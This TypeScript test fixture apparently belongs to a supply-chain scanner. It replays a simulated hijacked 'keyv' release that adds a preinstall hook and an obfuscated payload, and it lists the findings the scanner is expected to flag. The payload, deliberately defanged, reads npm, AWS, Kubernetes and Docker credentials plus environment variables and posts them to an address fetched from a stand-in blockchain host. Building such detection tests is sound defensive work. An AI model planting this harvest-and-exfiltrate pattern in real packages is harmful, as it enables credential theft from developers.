import { createHash } from 'node:crypto'
import { obfuscated } from '../obfuscated.js'
import { durations } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'
import { lines, startUnderBun } from '../worm.js'

/** Of nobody: twenty bytes of a digest. */
const contract = `0x${createHash('sha256').update('inert').digest('hex').slice(0, 40)}`

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»);
async function $main(){const $found=[],$contract=«${contract}»;
for(const $place of [«.npmrc»,«.aws/credentials»,«.kube/config»,«.docker/config.json»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
$found[«push»](JSON[«stringify»](process[«env»]));
const $answer=await fetch(«https://eth-rpc.example»,{'method':«POST»,'body':JSON[«stringify»]({'method':«eth_call»,'params':[{'to':$contract,'data':«0x»},«latest»]})});
const $where=(await $answer[«json»]())[«result»];
await fetch($where,{'method':«POST»,'body':$found[«join»](«»)[«slice»](0x0,0x0)});
}
$main()[«catch»](()=>{});
`,
  300,
)

const manifest = { main: 'index.js' }
const command = 'node setup.mjs'

/** Before and after, by the same run of the same workflow: there is nothing in it that a rule about provenance could see. */
const built = { trustedPublisher: 'github', provenance: { repository: 'jaredwray/keyv' } } as const

export const replay = replayUpgrade({
  description:
    'A maintainer’s account on the forge was taken over, and the release came through the project’s own pipeline with valid provenance: ' +
    'before install, a loader fetched another runtime for a stealer that read from a contract on a blockchain where to send what it found.',
  date: '2026-08-04',
  reviewedAt: '2026-08-04T18:00:00Z',
  name: 'keyv',
  from: ['5.5.3', { manifest, files: { 'index.js': durations }, published: '2026-07-01T12:00:00Z', ...built }],
  to: [
    '6.0.0',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { 'index.js': durations, 'setup.mjs': startUnderBun('Math_Symbol.js'), 'Math_Symbol.js': payload },
      published: '2026-08-04T12:00:00Z',
      ...built,
    },
  ],
  findings: [
    ['install-script-dangerous', 'critical', { file: 'Math_Symbol.js', line: payload }],
    ['remote-code-run', 'critical', { file: 'setup.mjs', line: lines.fetchRuntime }],
    ['secrets-exfiltrated', 'critical', { file: 'Math_Symbol.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'Math_Symbol.js', line: payload }],
    ['combined-risk', 'critical'],
    [
      'capability-added',
      'high',
      {
        file: 'setup.mjs',
        line: lines.unpackRuntime,
      },
    ],
    ['code-obfuscated', 'high', { file: 'Math_Symbol.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'Math_Symbol.js', line: payload }],
    ['release-fresh', 'medium'],
    ['network-host-added', 'medium', { file: 'Math_Symbol.js', line: payload }],
  ],
})
